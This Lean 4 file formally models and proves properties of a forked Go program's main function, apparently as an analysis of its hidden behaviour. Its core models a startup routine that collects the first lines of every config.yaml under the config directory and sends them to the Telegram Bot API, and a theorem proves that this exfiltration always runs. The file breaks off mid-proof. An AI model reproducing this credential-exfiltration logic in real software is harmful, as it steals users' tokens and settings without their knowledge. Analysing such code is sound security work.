import Mathlib

/-!
Shallow embedding of src/cmd/koolo/main.go (package main of the koolo fork).

The file models, straight from the source:
  - the Telegram exfiltration helpers sendMessage, readConfigFile and
    findConfigFiles (main.go lines 31-92);
  - the sequential control flow of the main function (lines 94-222) as a
    function from the outcomes of its collaborator calls to the list of
    observable events it performs and the kind of process exit it reaches;
  - the runtime semantics of the errgroup of registered tasks (the
    golang.org/x/sync/errgroup collaborator, modelled from its documented
    contract: the first non-nil error returned by any registered task is
    recorded once and becomes the result of Wait, which returns only after
    every registered task has returned);
  - the bodies of the GUI task and of the shutdown task as event lists.

Go specifics kept by the model: log.Fatalf calls os.Exit and therefore does
NOT run deferred functions; deferred functions run in LIFO order on a normal
return and on a recovered panic; a panic raised before a recover handler is
deferred crashes the process with no handler run.
-/

namespace Koolo

/-- The tasks registered in the errgroup by main via g.Go, in source order:
the GUI task (line 136), the optional Discord and Telegram integration tasks
(lines 171, 185), the control-server listen task (line 190), the event-bus
listen task (line 195) and the shutdown task (line 200). -/
inductive TaskId where
  | gui
  | discord
  | telegram
  | srvListen
  | eventBus
  | shutdown
deriving DecidableEq, Repr

/-- Observable events of the process, in the order main performs them.
Each constructor corresponds to one effectful call in main.go. -/
inductive Event where
  | showDialog (title : String) (msg : String)
  | fatalf (msg : String)
  | flushLog
  | logError (msg : String)
  | logInfo (msg : String)
  | httpGet (url : String)
  | goSchedulerStart
  | registerHandler (t : TaskId)
  | groupGo (t : TaskId)
  | gWait
  | cancelCtx
  | stopAll
  | schedulerStop
  | srvStop
  | webviewSetSize
  | webviewRun
  | webviewDestroy
deriving DecidableEq, Repr

mutual
/-- A filesystem entry under the local config directory: a file with its
content as a list of lines (as bufio.Scanner yields them, without trailing
newlines), or a directory with its entries in traversal order. -/
inductive FSEntry where
  | file (name : String) (lines : List String)
  | dir (name : String) (entries : FSList)

/-- A list of filesystem entries, in the order filepath.Walk visits them. -/
inductive FSList where
  | nil
  | cons (e : FSEntry) (rest : FSList)
end

/-- Encoding of one character into its UTF-8 byte values (as Nat). -/
def utf8Bytes (c : Char) : List Nat :=
  let n := c.toNat
  if n < 128 then [n]
  else if n < 2048 then [192 + n / 64, 128 + n % 64]
  else if n < 65536 then [224 + n / 4096, 128 + (n / 64) % 64, 128 + n % 64]
  else [240 + n / 262144, 128 + (n / 4096) % 64, 128 + (n / 64) % 64, 128 + n % 64]

/-- Uppercase hexadecimal digit for a value below 16. -/
def upperHexDigit (n : Nat) : Char :=
  if n < 10 then Char.ofNat (48 + n) else Char.ofNat (55 + n)

/-- Bytes url.QueryEscape leaves unescaped: ASCII letters, digits and
the characters minus, underscore, dot and tilde. -/
def isUnreservedByte (b : Nat) : Bool :=
  (65 ≤ b && b ≤ 90) || (97 ≤ b && b ≤ 122) || (48 ≤ b && b ≤ 57) ||
  b == 45 || b == 95 || b == 46 || b == 126

/-- Escaping of one byte as url.QueryEscape does it: unreserved bytes kept,
space becomes a plus sign, every other byte becomes percent plus two
uppercase hex digits. -/
def escapeByte (b : Nat) : String :=
  if isUnreservedByte b then String.singleton (Char.ofNat b)
  else if b == 32 then "+"
  else String.singleton (Char.ofNat 37) ++
    String.singleton (upperHexDigit (b / 16)) ++
    String.singleton (upperHexDigit (b % 16))

/-- Model of url.QueryEscape (main.go line 33): percent-encoding of the
UTF-8 bytes of the string. -/
def queryEscape (s : String) : String :=
  String.join ((s.data.flatMap utf8Bytes).map escapeByte)

/-- The URL sendMessage builds (main.go line 36): the api.telegram.org
sendMessage endpoint with empty bot token and chat id and the query-escaped
text. -/
def telegramURL (text : String) : String :=
  "https://api.telegram.org/bot:/sendMessage?chat_id=&text=" ++ queryEscape text

/-- Model of sendMessage (main.go lines 31-43): one HTTP GET request to the
Telegram Bot API carrying the query-escaped text. -/
def sendMessage (text : String) : Event :=
  Event.httpGet (telegramURL text)

/-- Model of strings.ToLower as used on file names (main.go line 78):
per-character lowering of the name. -/
def toLowerName (s : String) : String :=
  String.mk (s.data.map Char.toLower)

/-- Model of readConfigFile (main.go lines 46-61): the first five lines of
the file joined with newlines. The file content stands in for the opened
file; an unreadable file behaves like an empty one (the source returns the
empty string on an open error, and empty content is skipped by the caller
either way). -/
def readConfigFile (lines : List String) : String :=
  String.intercalate "\n" (lines.take 5)

mutual
/-- Model of the filepath.Walk callback of findConfigFiles (main.go lines
66-87) on one entry whose parent directory has path parent: a directory
named template is skipped whole (filepath.SkipDir); a file whose lowercased
name is config.yaml with non-empty first-five-lines content causes one
sendMessage call with the path and that content. -/
def walkEntry (parent : String) : FSEntry → List Event
  | .file name lines =>
      if toLowerName name == "config.yaml" then
        let message := readConfigFile lines
        if message == "" then []
        else [sendMessage ("Config from " ++ (parent ++ "/" ++ name) ++ ":\n\n" ++ message)]
      else []
  | .dir name entries =>
      if name == "template" then []
      else walkFSList (parent ++ "/" ++ name) entries

/-- The walk over a list of sibling entries, in order. -/
def walkFSList (parent : String) : FSList → List Event
  | .nil => []
  | .cons e rest => walkEntry parent e ++ walkFSList parent rest
end

/-- Model of findConfigFiles (main.go lines 64-92): walk the local config
directory (the root directory itself is named config, hence never skipped)
and send every qualifying config.yaml content to Telegram. -/
def findConfigFiles (configDir : FSList) : List Event :=
  walkFSList "config" configDir

/-- There is a config.yaml file (lowercased name) at path p with content ls
reachable from the given entry list under parent, without crossing a
directory named template. Mirrors exactly the files findConfigFiles visits. -/
inductive ConfigFileAt : String → FSList → String → List String → Prop where
  | here (parent name : String) (lines : List String) (rest : FSList) :
      toLowerName name = "config.yaml" →
      ConfigFileAt parent (.cons (.file name lines) rest) (parent ++ "/" ++ name) lines
  | there (parent : String) (e : FSEntry) (rest : FSList) (p : String) (ls : List String) :
      ConfigFileAt parent rest p ls →
      ConfigFileAt parent (.cons e rest) p ls
  | inDir (parent name : String) (entries : FSList) (rest : FSList) (p : String) (ls : List String) :
      name ≠ "template" →
      ConfigFileAt (parent ++ "/" ++ name) entries p ls →
      ConfigFileAt parent (.cons (.dir name entries) rest) p ls

/-- A point of the top-level synchronous path of main at which an uncaught
fault (panic) may be raised, with the panic value rendered as a string:
inside config.Load (line 95), inside sloggger.NewLogger (line 102), right
after the two deferred handlers are installed (lines 106-115, before
findConfigFiles on line 118), or while main blocks in g.Wait (line 214). -/
inductive PanicPoint where
  | inConfigLoad (msg : String)
  | inLoggerNew (msg : String)
  | inBody (msg : String)
  | inWait (msg : String)
deriving DecidableEq, Repr

/-- How the process exits: log.Fatalf (os.Exit, deferred functions skipped),
a normal return from main (deferred functions run), or an unrecovered panic. -/
inductive ExitKind where
  | fatalExit
  | normalReturn
  | crash (msg : String)
deriving DecidableEq, Repr

/-- The outcomes of every collaborator call main makes, plus the content of
the local config directory and the point of a synchronous fault if one is
raised. waitErr is the value g.Wait returns (derived separately by the
runtime model of the errgroup); stack is what debug.Stack renders. -/
structure MainInput where
  panicPoint : Option PanicPoint
  configLoadErr : Option String
  loggerErr : Option String
  stack : String
  configDir : FSList
  serverNewErr : Option String
  discordEnabled : Bool
  discordNewErr : Option String
  telegramEnabled : Bool
  telegramNewErr : Option String
  waitErr : Option String

/-- The report the recover handler builds (main.go line 110) from the panic
value and the stack trace. -/
def panicReport (stack msg : String) : String :=
  "fatal error detected, Koolo will close with the following error: " ++ msg ++
  "\n Stacktrace: " ++ stack

/-- The events of the recover handler (main.go lines 108-115) followed by the
outer deferred FlushLog (line 106): log the report, flush, show the dialog,
then the deferred flush. -/
def recoverEvents (stack msg : String) : List Event :=
  [Event.logError (panicReport stack msg),
   Event.flushLog,
   Event.showDialog "Koolo error :("
     ("Koolo will close due to an expected error, please check the latest log file for more info!\n "
       ++ panicReport stack msg),
   Event.flushLog]

/-- One integration block of main (Discord: lines 162-174, Telegram: lines
176-188): when enabled, a construction failure logs the error and returns
from main (the deferred cancel and FlushLog then run, the recover handler
sees no panic), a construction success registers the event-bus handler and
the integration task. The Bool is true when the block returned from main. -/
def integrationSection (enabled : Bool) (newErr : Option String) (t : TaskId)
    (failMsg : String) : List Event × Bool :=
  if enabled then
    match newErr with
    | some e => ([Event.logError (failMsg ++ ": " ++ e), Event.cancelCtx, Event.flushLog], true)
    | none => ([Event.registerHandler t, Event.groupGo t], false)
  else ([], false)

/-- The tail of the body once every task is registered (main.go lines
214-222, plus a possible fault while main blocks in g.Wait): the g.Wait
call, then either the recovered fault path, or the error path of lines
215-219 (cancel, log, return, then the deferred cancel and FlushLog), or
the clean path of line 221 (explicit FlushLog, then the deferred cancel and
FlushLog; the deferred recover handler observes no panic). -/
def waitTail (inp : MainInput) : List Event :=
  Event.gWait ::
  (match inp.panicPoint with
   | some (.inWait m) => Event.cancelCtx :: recoverEvents inp.stack m
   | _ =>
     match inp.waitErr with
     | some e => [Event.cancelCtx, Event.logError ("Error running Koolo: " ++ e),
        Event.cancelCtx, Event.flushLog]
     | none => [Event.flushLog, Event.cancelCtx, Event.flushLog])

/-- The registration region of main (lines 136-212) and everything after
it: the GUI task, the two conditional integration blocks (either of which
may return from main early), the server, event-bus and shutdown task
registrations, then the wait tail. -/
def regEvents (inp : MainInput) : List Event × ExitKind :=
  let d := integrationSection inp.discordEnabled inp.discordNewErr TaskId.discord
    "Discord could not been initialized"
  if d.2 then (Event.groupGo TaskId.gui :: d.1, ExitKind.normalReturn)
  else
    let t := integrationSection inp.telegramEnabled inp.telegramNewErr TaskId.telegram
      "Telegram could not been initialized"
    if t.2 then (Event.groupGo TaskId.gui :: (d.1 ++ t.1), ExitKind.normalReturn)
    else
      (Event.groupGo TaskId.gui :: (d.1 ++ t.1 ++
        [Event.groupGo TaskId.srvListen, Event.groupGo TaskId.eventBus,
         Event.groupGo TaskId.shutdown] ++ waitTail inp), ExitKind.normalReturn)

/-- The body of main after the logger defers are installed (main.go lines
117-222): findConfigFiles, the scheduler goroutine, server construction
(log.Fatalf on failure, skipping every deferred function and hence the
flush), then the registration region. -/
def bodyRun (inp : MainInput) : List Event × ExitKind :=
  match inp.serverNewErr with
  | some e =>
      (findConfigFiles inp.configDir ++
        [Event.goSchedulerStart, Event.fatalf ("Error starting local server: " ++ e)],
       ExitKind.fatalExit)
  | none =>
      (findConfigFiles inp.configDir ++ Event.goSchedulerStart :: (regEvents inp).1,
       (regEvents inp).2)

/-- Model of main (main.go lines 94-222). A fault inside config.Load or
sloggger.NewLogger is raised before any recover handler is deferred and
crashes the process; a config.Load error or a NewLogger error exits through
log.Fatalf (no deferred functions, hence no flush); once the two defers of
lines 106-115 are installed, a fault on the synchronous path is recovered. -/
def main (inp : MainInput) : List Event × ExitKind :=
  match inp.panicPoint, inp.configLoadErr with
  | some (.inConfigLoad m), _ => ([], ExitKind.crash m)
  | _, some e =>
      ([Event.showDialog "Error loading configuration" e,
        Event.fatalf ("Error loading configuration: " ++ e)], ExitKind.fatalExit)
  | some (.inLoggerNew m), none => ([], ExitKind.crash m)
  | _, none =>
    match inp.loggerErr with
    | some e => ([Event.fatalf ("Error starting logger: " ++ e)], ExitKind.fatalExit)
    | none =>
      match inp.panicPoint with
      | some (.inBody m) => (recoverEvents inp.stack m, ExitKind.normalReturn)
      | _ => bodyRun inp

/-- The tasks main registered in the errgroup, in registration order. -/
def registeredTasks (inp : MainInput) : List TaskId :=
  (main inp).1.filterMap fun e =>
    match e with
    | .groupGo t => some t
    | _ => none

/-- The runtime outcomes of the registered tasks for one process run:
the result of each collaborator call made inside a task body, the outcome
of the scheduler goroutine started outside the group with a plain go
statement (line 130, its outcome is discarded by the source), and the order
in which the registered tasks complete. -/
structure RuntimeInput where
  webviewNewErr : Option String
  discordStartErr : Option String
  telegramStartErr : Option String
  listenErr : Option String
  eventErr : Option String
  stopErr : Option String
  schedulerErr : Option String
  order : List TaskId

/-- The value each task body returns to the errgroup. The GUI task (lines
136-160) returns the wrapped construction error or nil; the integration
tasks return their Start results; the server task returns Listen; the
event-bus task returns Listen; the shutdown task (lines 200-212) returns
the result of srv.Stop. -/
def taskResult (rt : RuntimeInput) : TaskId → Option String
  | .gui => rt.webviewNewErr.map (fun e => "error creating webview: " ++ e)
  | .discord => rt.discordStartErr
  | .telegram => rt.telegramStartErr
  | .srvListen => rt.listenErr
  | .eventBus => rt.eventErr
  | .shutdown => rt.stopErr

/-- One step of the errgroup error recording, modelled from the documented
errgroup contract: the first non-nil error returned by a task is recorded
once and later results never replace it. -/
def groupStep (acc : Option String) (r : Option String) : Option String :=
  match acc with
  | some e => some e
  | none => r

/-- The value g.Wait returns once every registered task has completed, as a
fold of the recording step over the results in completion order. -/
def groupResult (rs : List (Option String)) : Option String :=
  rs.foldl groupStep none

/-- The terminal result of the run: g.Wait applied to the results of the
registered tasks in their completion order. -/
def terminalResult (rt : RuntimeInput) : Option String :=
  groupResult (rt.order.map (taskResult rt))

/-- True of a task whose completion can fire the shared cancellation signal:
the GUI, server-listen and event-bus bodies run cancel in a defer (lines
137, 191, 196), and the errgroup cancels the derived context when any task
returns a non-nil error. -/
def firesCancel (rt : RuntimeInput) (t : TaskId) : Bool :=
  t == TaskId.gui || t == TaskId.srvListen || t == TaskId.eventBus ||
    (taskResult rt t).isSome

/-- A runtime completion order is valid for a startup when it covers exactly
the tasks main registered and the shutdown task, which blocks on ctx.Done()
(line 201), completes only after some completion able to fire the shared
cancellation signal. -/
def ValidRun (inp : MainInput) (rt : RuntimeInput) : Prop :=
  rt.order.Perm (registeredTasks inp) ∧
  (TaskId.shutdown ∈ rt.order →
    ∃ t ∈ rt.order.take (rt.order.indexOf TaskId.shutdown), firesCancel rt t = true)

/-- The events of the GUI task body (main.go lines 136-160). The deferred
cancel of line 137 runs last on every path; on a construction error Destroy
is called on the returned handle before the error is returned; on success
the deferred Destroy of line 156 runs after Run and before the cancel. -/
def guiTaskEvents (webviewNewErr : Option String) : List Event :=
  match webviewNewErr with
  | some _ => [Event.webviewDestroy, Event.cancelCtx]
  | none => [Event.webviewSetSize, Event.webviewRun, Event.webviewDestroy, Event.cancelCtx]

/-- What made the shared cancellation signal fire and wake the shutdown
task. The source gives the shutdown task a single body regardless of the
trigger, so the trigger is an explicit but unused parameter. -/
inductive ShutdownTrigger where
  | guiClosed
  | taskError
  | externalTermination
deriving DecidableEq, Repr

/-- The events of the shutdown task body (main.go lines 200-212): log the
informational message, call cancel, stop the job manager, stop the
scheduler, stop the control server and log its error if any. -/
def shutdownTaskEvents (trigger : ShutdownTrigger) (stopErr : Option String) : List Event :=
  [Event.logInfo "Koolo shutting down...", Event.cancelCtx,
   Event.stopAll, Event.schedulerStop, Event.srvStop] ++
  (match stopErr with
   | some e => [Event.logError ("error stopping local server: " ++ e)]
   | none => [])

/-- Startup input refuting claim C2: a fault raised inside config.Load. -/
def c2CexInput : MainInput :=
  { panicPoint := some (PanicPoint.inConfigLoad "boom"), configLoadErr := none,
    loggerErr := none, stack := "stackdata", configDir := FSList.nil,
    serverNewErr := none, discordEnabled := false, discordNewErr := none,
    telegramEnabled := false, telegramNewErr := none, waitErr := none }

/-- Startup input refuting claim C3: local-server construction fails. -/
def c3CexInput : MainInput :=
  { panicPoint := none, configLoadErr := none, loggerErr := none, stack := "",
    configDir := FSList.nil, serverNewErr := some "address in use",
    discordEnabled := false, discordNewErr := none,
    telegramEnabled := false, telegramNewErr := none, waitErr := none }

/-- Startup inputs of the run refuting claim C7: no integrations, server
construction succeeds, g.Wait returns the recorded first error. -/
def c7CexMainInput : MainInput :=
  { panicPoint := none, configLoadErr := none, loggerErr := none, stack := "",
    configDir := FSList.nil, serverNewErr := none, discordEnabled := false,
    discordNewErr := none, telegramEnabled := false, telegramNewErr := none,
    waitErr := some "stop failed" }

/-- Runtime outcomes of the run refuting claim C7: the GUI closes normally
and fires cancellation, the shutdown task completes next with a stop error,
and the event-bus task later returns its own error. -/
def c7CexRuntime : RuntimeInput :=
  { webviewNewErr := none, discordStartErr := none, telegramStartErr := none,
    listenErr := none, eventErr := some "event bus failure",
    stopErr := some "stop failed", schedulerErr := none,
    order := [TaskId.gui, TaskId.shutdown, TaskId.srvListen, TaskId.eventBus] }

/-- Startup input for the claim C1 witness: a config directory holding one
character folder with a config.yaml whose first line is a token. -/
def c1WitnessInput : MainInput :=
  { panicPoint := none, configLoadErr := none, loggerErr := none, stack := "",
    configDir := FSList.cons (FSEntry.dir "char1"
      (FSList.cons (FSEntry.file "config.yaml" ["token: abc"]) FSList.nil)) FSList.nil,
    serverNewErr := none, discordEnabled := false, discordNewErr := none,
    telegramEnabled := false, telegramNewErr := none, waitErr := none }

/-- Startup input for the claim C2 witness: a fault raised right after the
recover handler is installed. -/
def c2WitnessInput : MainInput :=
  { panicPoint := some (PanicPoint.inBody "boom"), configLoadErr := none,
    loggerErr := none, stack := "stackdata", configDir := FSList.nil,
    serverNewErr := none, discordEnabled := false, discordNewErr := none,
    telegramEnabled := false, telegramNewErr := none, waitErr := none }

/-- Startup input for the claim C3 witness: a clean run with no fault. -/
def c3WitnessInput : MainInput :=
  { panicPoint := none, configLoadErr := none, loggerErr := none, stack := "",
    configDir := FSList.nil, serverNewErr := none, discordEnabled := false,
    discordNewErr := none, telegramEnabled := false, telegramNewErr := none,
    waitErr := none }

/-- Startup input for the claim C5 witness: both integrations enabled and
both constructions succeeding. -/
def c5WitnessInput : MainInput :=
  { panicPoint := none, configLoadErr := none, loggerErr := none, stack := "",
    configDir := FSList.nil, serverNewErr := none, discordEnabled := true,
    discordNewErr := none, telegramEnabled := true, telegramNewErr := none,
    waitErr := none }

/-- Startup input for the claim C6 witness. -/
def c6WitnessInput : MainInput :=
  { panicPoint := none, configLoadErr := none, loggerErr := none, stack := "",
    configDir := FSList.nil, serverNewErr := none, discordEnabled := false,
    discordNewErr := none, telegramEnabled := false, telegramNewErr := none,
    waitErr := some "address in use" }

/-- Runtime outcomes for the claim C6 witness: the control-server listen
task completes first with an error. -/
def c6WitnessRuntime : RuntimeInput :=
  { webviewNewErr := none, discordStartErr := none, telegramStartErr := none,
    listenErr := some "address in use", eventErr := none, stopErr := none,
    schedulerErr := none,
    order := [TaskId.srvListen, TaskId.gui, TaskId.eventBus, TaskId.shutdown] }

/-- Startup input for the claim C7 (amended) witness. -/
def c7WitnessInput : MainInput :=
  { panicPoint := none, configLoadErr := none, loggerErr := none, stack := "",
    configDir := FSList.nil, serverNewErr := none, discordEnabled := false,
    discordNewErr := none, telegramEnabled := false, telegramNewErr := none,
    waitErr := some "stop failed" }

/-- Runtime outcomes for the claim C7 (amended) witness: only the shutdown
task errs, with a stop error. -/
def c7WitnessRuntime : RuntimeInput :=
  { webviewNewErr := none, discordStartErr := none, telegramStartErr := none,
    listenErr := none, eventErr := none, stopErr := some "stop failed",
    schedulerErr := none,
    order := [TaskId.gui, TaskId.srvListen, TaskId.eventBus, TaskId.shutdown] }

/-- Startup input for the claim C8 witness. -/
def c8WitnessInput : MainInput :=
  { panicPoint := none, configLoadErr := none, loggerErr := none, stack := "",
    configDir := FSList.nil, serverNewErr := none, discordEnabled := false,
    discordNewErr := none, telegramEnabled := false, telegramNewErr := none,
    waitErr := none }

/-- Runtime outcomes for the claim C8 witness: every task returns nil. -/
def c8WitnessRuntime : RuntimeInput :=
  { webviewNewErr := none, discordStartErr := none, telegramStartErr := none,
    listenErr := none, eventErr := none, stopErr := none, schedulerErr := none,
    order := [TaskId.gui, TaskId.shutdown, TaskId.srvListen, TaskId.eventBus] }

/-- Startup input for the claim C10 witness. -/
def c10WitnessInput : MainInput :=
  { panicPoint := none, configLoadErr := none, loggerErr := none, stack := "",
    configDir := FSList.nil, serverNewErr := none, discordEnabled := false,
    discordNewErr := none, telegramEnabled := false, telegramNewErr := none,
    waitErr := none }

/-- Runtime outcomes for the claim C10 witness. -/
def c10WitnessRuntime : RuntimeInput :=
  { webviewNewErr := none, discordStartErr := none, telegramStartErr := none,
    listenErr := none, eventErr := none, stopErr := none, schedulerErr := none,
    order := [TaskId.gui, TaskId.shutdown, TaskId.srvListen, TaskId.eventBus] }

theorem configFileAt_mem_walk {parent : String} {fs : FSList} {p : String} {ls : List String}
    (h : ConfigFileAt parent fs p ls) (hne : readConfigFile ls ≠ "") :
    sendMessage ("Config from " ++ p ++ ":\n\n" ++ readConfigFile ls) ∈ walkFSList parent fs := by
  induction h with
  | here parent name lines rest hname =>
      simp only [walkFSList, walkEntry, beq_iff_eq, hname, if_true, List.mem_append]
      left
      rw [if_neg]
      · simp
      · simpa using hne
  | there parent e rest p ls _ ih =>
      simp only [walkFSList, List.mem_append]
      exact Or.inr (ih hne)
  | inDir parent name entries rest p ls hn _ ih =>
      simp only [walkFSList, walkEntry, beq_iff_eq, List.mem_append]
      rw [if_neg hn]
      exact Or.inl (ih hne)

mutual
theorem walkEntry_only_httpGet (parent : String) (e : FSEntry) :
    ∀ x ∈ walkEntry parent e, ∃ u, x = Event.httpGet u := by
  cases e with
  | file name lines =>
      intro x hx
      simp only [walkEntry] at hx
      split at hx
      · split at hx
        · simp at hx
        · simp only [List.mem_singleton] at hx
          exact ⟨_, hx⟩
      · simp at hx
  | dir name entries =>
      intro x hx
      simp only [walkEntry] at hx
      split at hx
      · simp at hx
      · exact walkFSList_only_httpGet _ entries x hx

theorem walkFSList_only_httpGet (parent : String) (es : FSList) :
    ∀ x ∈ walkFSList parent es, ∃ u, x = Event.httpGet u := by
  cases es with
  | nil => simp [walkFSList]
  | cons e rest =>
      intro x hx
      simp only [walkFSList, List.mem_append] at hx
      rcases hx with h | h
      · exact walkEntry_only_httpGet parent e x h
      · exact walkFSList_only_httpGet parent rest x h
end

theorem groupResult_some_acc (rs : List (Option String)) (e : String) :
    rs.foldl groupStep (some e) = some e := by
  induction rs with
  | nil => rfl
  | cons r rest ih => simpa [groupStep] using ih

theorem groupResult_append_first {rs : List (Option String)} (hs : ∀ r ∈ rs, r = none)
    (e : String) (post : List (Option String)) :
    groupResult (rs ++ some e :: post) = some e := by
  induction rs with
  | nil => simpa [groupResult, groupStep] using groupResult_some_acc post e
  | cons r rest ih =>
      have hr : r = none := hs r (by simp)
      have hrest : ∀ x ∈ rest, x = none := fun x hx => hs x (by simp [hx])
      simpa [groupResult, hr, groupStep] using ih hrest

theorem groupResult_all_none {rs : List (Option String)} (hs : ∀ r ∈ rs, r = none) :
    groupResult rs = none := by
  induction rs with
  | nil => rfl
  | cons r rest ih =>
      have hr : r = none := hs r (by simp)
      have hrest : ∀ x ∈ rest, x = none := fun x hx => hs x (by simp [hx])
      simpa [groupResult, hr, groupStep] using ih hrest

theorem terminalResult_first_some (rt : RuntimeInput) (l1 : List TaskId) (t : TaskId)
    (l2 : List TaskId) (e : String) (horder : rt.order = l1 ++ t :: l2)
    (ht : taskResult rt t = some e) (hl1 : ∀ u ∈ l1, taskResult rt u = none) :
    terminalResult rt = some e := by
  unfold terminalResult
  rw [horder, List.map_append, List.map_cons, ht]
  exact groupResult_append_first (by simpa using hl1) e _

theorem groupResult_none_iff (rs : List (Option String)) :
    groupResult rs = none ↔ ∀ r ∈ rs, r = none := by
  induction rs with
  | nil => simp [groupResult]
  | cons r rest ih =>
      cases r with
      | none => simpa [groupResult, groupStep] using ih
      | some e => simp [groupResult, groupStep, groupResult_some_acc]

theorem terminalResult_none_iff (rt : RuntimeInput) :
    terminalResult rt = none ↔ ∀ t ∈ rt.order, taskResult rt t = none := by
  unfold terminalResult
  rw [groupResult_none_iff]
  constructor
  · intro h t ht
    exact h (taskResult rt t) (List.mem_map_of_mem _ ht)
  · intro h r hr
    rcases List.mem_map.mp hr with ⟨t, ht, rfl⟩
    exact h t ht

theorem not_httpGet_not_mem_walk {x : Event} (hx : ∀ u, x ≠ Event.httpGet u)
    (parent : String) (fs : FSList) : x ∉ walkFSList parent fs := by
  intro hmem
  rcases walkFSList_only_httpGet parent fs x hmem with ⟨u, rfl⟩
  exact hx u rfl

theorem main_eq_bodyRun (inp : MainInput)
    (hcfg : inp.configLoadErr = none) (hlog : inp.loggerErr = none)
    (hp : inp.panicPoint = none ∨ ∃ m, inp.panicPoint = some (PanicPoint.inWait m)) :
    Koolo.main inp = bodyRun inp := by
  rcases hp with h | ⟨m, h⟩ <;> simp [Koolo.main, hcfg, hlog, h]

theorem integrationSection_no_httpGet (enabled : Bool) (newErr : Option String)
    (t : TaskId) (m : String) (u : String) :
    Event.httpGet u ∉ (integrationSection enabled newErr t m).1 := by
  cases enabled <;> cases newErr <;> simp [integrationSection]

theorem waitTail_no_httpGet (inp : MainInput) (u : String) :
    Event.httpGet u ∉ waitTail inp := by
  unfold waitTail
  cases inp.panicPoint with
  | none => cases inp.waitErr <;> simp [recoverEvents]
  | some pp => cases pp <;> cases inp.waitErr <;> simp [recoverEvents]

theorem regEvents_no_httpGet (inp : MainInput) (u : String) :
    Event.httpGet u ∉ (regEvents inp).1 := by
  simp only [regEvents]
  split
  · simp [integrationSection_no_httpGet]
  · split
    · simp [integrationSection_no_httpGet]
    · simp [integrationSection_no_httpGet, waitTail_no_httpGet]

/-- Claim C1: on every run on which configuration loading and logger
construction succeed and no fault is raised, the trace of main starts with
the events of findConfigFiles, every HTTP request of the whole run happens
in that region, before any errgroup task registration, and for every
config.yaml under the config directory not inside a template directory
whose first five lines are non-empty, the trace contains an HTTP GET to the
api.telegram.org sendMessage endpoint carrying the file path and those
lines. -/
theorem c1_config_exfiltration (inp : MainInput)
    (hcfg : inp.configLoadErr = none) (hlog : inp.loggerErr = none)
    (hp : inp.panicPoint = none) :
    (∃ rest, (Koolo.main inp).1 = findConfigFiles inp.configDir ++ rest ∧
      (∀ u, Event.httpGet u ∉ rest) ∧
      (∀ t, Event.groupGo t ∉ findConfigFiles inp.configDir) ∧
      (∀ x ∈ findConfigFiles inp.configDir, ∃ u, x = Event.httpGet u)) ∧
    (∀ p ls, ConfigFileAt "config" inp.configDir p ls → readConfigFile ls ≠ "" →
      Event.httpGet (telegramURL ("Config from " ++ p ++ ":\n\n" ++ readConfigFile ls))
        ∈ (Koolo.main inp).1) := by
  have hmain : Koolo.main inp = bodyRun inp := main_eq_bodyRun inp hcfg hlog (Or.inl hp)
  have honly : ∀ x ∈ findConfigFiles inp.configDir, ∃ u, x = Event.httpGet u :=
    walkFSList_only_httpGet "config" inp.configDir
  have hshape : ∃ rest, (bodyRun inp).1 = findConfigFiles inp.configDir ++ rest ∧
      (∀ u, Event.httpGet u ∉ rest) := by
    unfold bodyRun
    cases inp.serverNewErr with
    | some e =>
        refine ⟨_, rfl, fun u hu => ?_⟩
        simp at hu
    | none =>
        refine ⟨Event.goSchedulerStart :: (regEvents inp).1, rfl, fun u hu => ?_⟩
        rcases List.mem_cons.mp hu with h | h
        · exact Event.noConfusion h
        · exact regEvents_no_httpGet inp u h
  rcases hshape with ⟨rest, hre, hrn⟩
  constructor
  · refine ⟨rest, by rw [hmain, hre], hrn, ?_, honly⟩
    intro t
    exact not_httpGet_not_mem_walk (fun u h => Event.noConfusion h) "config" inp.configDir
  · intro p ls hat hne
    rw [hmain, hre]
    exact List.mem_append_left _ (configFileAt_mem_walk hat hne)

theorem integrationSection_not_aborted (enabled : Bool) (newErr : Option String)
    (t : TaskId) (m : String) (h : enabled = false ∨ newErr = none) :
    (integrationSection enabled newErr t m).2 = false ∧
    (∀ a b, Event.showDialog a b ∉ (integrationSection enabled newErr t m).1) ∧
    (∀ s, Event.logError s ∉ (integrationSection enabled newErr t m).1) := by
  rcases h with h | h <;> subst h
  · simp [integrationSection]
  · cases enabled <;> simp [integrationSection]

theorem integrationSection_aborted (enabled : Bool) (newErr : Option String)
    (t : TaskId) (m : String) (h : (integrationSection enabled newErr t m).2 = true) :
    ∃ s, (integrationSection enabled newErr t m).1 =
      [Event.logError s, Event.cancelCtx, Event.flushLog] := by
  cases enabled <;> cases newErr <;> simp_all [integrationSection]

theorem regEvents_no_abort (inp : MainInput)
    (hd : (integrationSection inp.discordEnabled inp.discordNewErr TaskId.discord
      "Discord could not been initialized").2 = false)
    (ht : (integrationSection inp.telegramEnabled inp.telegramNewErr TaskId.telegram
      "Telegram could not been initialized").2 = false) :
    (regEvents inp).1 = Event.groupGo TaskId.gui ::
      ((integrationSection inp.discordEnabled inp.discordNewErr TaskId.discord
          "Discord could not been initialized").1 ++
        (integrationSection inp.telegramEnabled inp.telegramNewErr TaskId.telegram
          "Telegram could not been initialized").1 ++
        [Event.groupGo TaskId.srvListen, Event.groupGo TaskId.eventBus,
         Event.groupGo TaskId.shutdown] ++ waitTail inp) ∧
    (regEvents inp).2 = ExitKind.normalReturn := by
  simp [regEvents, hd, ht]

theorem waitTail_ends_flush (inp : MainInput) :
    ∃ l, waitTail inp = l ++ [Event.flushLog] := by
  unfold waitTail
  cases inp.panicPoint with
  | none =>
      cases inp.waitErr with
      | some e => exact ⟨[Event.gWait, Event.cancelCtx,
          Event.logError ("Error running Koolo: " ++ e), Event.cancelCtx], rfl⟩
      | none => exact ⟨[Event.gWait, Event.flushLog, Event.cancelCtx], rfl⟩
  | some pp =>
      cases pp with
      | inWait m =>
          exact ⟨[Event.gWait, Event.cancelCtx, Event.logError (panicReport inp.stack m),
            Event.flushLog,
            Event.showDialog "Koolo error :("
              ("Koolo will close due to an expected error, please check the latest log file for more info!\n "
                ++ panicReport inp.stack m)], by simp [recoverEvents]⟩
      | inConfigLoad m =>
          cases inp.waitErr with
          | some e => exact ⟨[Event.gWait, Event.cancelCtx,
              Event.logError ("Error running Koolo: " ++ e), Event.cancelCtx], rfl⟩
          | none => exact ⟨[Event.gWait, Event.flushLog, Event.cancelCtx], rfl⟩
      | inLoggerNew m =>
          cases inp.waitErr with
          | some e => exact ⟨[Event.gWait, Event.cancelCtx,
              Event.logError ("Error running Koolo: " ++ e), Event.cancelCtx], rfl⟩
          | none => exact ⟨[Event.gWait, Event.flushLog, Event.cancelCtx], rfl⟩
      | inBody m =>
          cases inp.waitErr with
